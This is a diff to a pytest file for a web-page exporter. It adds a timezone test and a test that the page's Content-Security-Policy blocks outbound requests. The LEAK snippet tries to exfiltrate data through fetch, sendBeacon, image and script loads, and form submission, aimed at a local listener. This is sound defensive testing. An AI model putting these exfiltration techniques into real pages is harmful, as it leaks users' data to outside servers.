@@ -4,18 +4,23 @@ from __future__ import annotations
 
 import json
 import os
+import re
+import shutil
 import subprocess
 import tempfile
-from collections.abc import Callable, Mapping, Sequence
+import threading
+from collections.abc import Callable, Iterator, Mapping, Sequence
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from importlib import resources
 from pathlib import Path
-from typing import Any
+from typing import Any, ClassVar
 
 import numpy as np
 import pytest
 from PIL import Image
 
 from shopkit.runtime import Predictor
-from tests.runtimes.conftest import HERE, Answer, Case
+from tests.runtimes.conftest import HERE, Answer, Case, answered
 from tests.runtimes.families import EVERY
 
 pytestmark = pytest.mark.runtimes
@@ -91,6 +96,87 @@ def test_the_page_gives_the_same_answers(family: str, case: Callable[[str], Case
     typed = typed_rows(asked, tmp_path)
     shown = ask(asked.run.path / "exports" / "web", typed)
     compare(shown, asked.expected[: len(typed)], Predictor(asked.run.path).description.outputs)
+
+
+def test_a_time_is_one_of_the_columns_zone(case: Callable[[str], Case], ask: Asked, tmp_path: Path) -> None:
+    run = case("tabular").run
+    folder = tmp_path / "web"
+    shutil.copytree(run.path / "exports" / "web", folder)
+    description = json.loads((folder / "description.json").read_text(encoding="utf-8"))
+    (at,) = (column for column in description["schema"] if column["name"] == "at")
+    at["unit"] = "Europe/Berlin"
+    (folder / "description.json").write_text(json.dumps(description), encoding="utf-8")
+    predictor = Predictor(run.path)
+    row: dict[str, Any] = {"pages": 6, "seconds": 61.5, "channel": "search", "browser": 3, "is_weekend": True}
+    typed = {name: keyed(value) for name, value in row.items()}
+    shown = ask(folder, [{**typed, "at": "2024-07-01T00:30:00", "is_weekend": "true"}])
+    expected = answered(predictor, [{"rows": [{**row, "at": "2024-07-01T00:30:00+02:00"}], "options": {}}])
+    compare(shown, expected, predictor.description.outputs)
+    elsewhere = answered(predictor, [{"rows": [{**row, "at": "2024-07-01T00:30:00"}], "options": {}}])
+    assert elsewhere[0]["probability"] != expected[0]["probability"]
+
+
+class _Listener(BaseHTTPRequestHandler):
+    heard: ClassVar[list[str]] = []
+
+    def do_GET(self) -> None:
+        self.heard.append(self.path)
+        self.send_response(204)
+        self.end_headers()
+
+    def do_POST(self) -> None:
+        self.do_GET()
+
+    def log_message(self, *values: object) -> None:
+        pass
+
+
+@pytest.fixture
+def elsewhere() -> Iterator[str]:
+    """The address of another server, which says nothing."""
+    _Listener.heard.clear()
+    server = ThreadingHTTPServer(("127.0.0.1", 0), _Listener)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_port}"
+    server.shutdown()
+    server.server_close()
+
+
+LEAK = """
+const leaks = [
+  () => fetch("ADDRESS/fetch", { mode: "no-cors" }),
+  () => navigator.sendBeacon("ADDRESS/beacon", "row") || Promise.reject(),
+  () => new Promise((done, stopped) => Object.assign(new Image(), { onload: done, onerror: stopped, src: "ADDRESS/image" })),
+  () => new Promise((done, stopped) => {
+    const script = document.createElement("script");
+    document.head.append(Object.assign(script, { onload: done, onerror: stopped, src: "ADDRESS/script" }));
+  }),
+];
+Promise.allSettled(leaks.map((leak) => leak())).then(() => {
+  element("form").onsubmit = () => {
+    element("state").textContent = "done";
+    if (!GUARDED) return false;
+    element("form").action = "ADDRESS/form";
+    return true;
+  };
+  element("answer").disabled = false;
+});
+"""
+
+
+@pytest.mark.parametrize("is_guarded", [True, False])
+def test_nothing_leaves_the_page(is_guarded: bool, ask: Asked, elsewhere: str, tmp_path: Path) -> None:
+    """What a script on the page sends to another server does not arrive; it would without the page's policy."""
+    page = resources.files("shopkit.exporters") / "web_page"
+    html = (page / "index.html").read_text(encoding="utf-8")
+    policy = re.search(r'<meta http-equiv="Content-Security-Policy".*?>', html)
+    assert policy is not None
+    (tmp_path / "index.html").write_text(html if is_guarded else html.replace(policy[0], ""), encoding="utf-8")
+    script = LEAK.replace("ADDRESS", elsewhere).replace("GUARDED", str(is_guarded).lower())
+    (tmp_path / "page.js").write_text("const element = (id) => document.getElementById(id);\n" + script, encoding="utf-8")
+    (found,) = ask(tmp_path, [{}])
+    assert found["state"] == "done"
+    assert set(_Listener.heard) == (set() if is_guarded else {"/fetch", "/beacon", "/image", "/script"})
 
 
 WRONG: dict[str, tuple[dict[str, Any], str]] = {
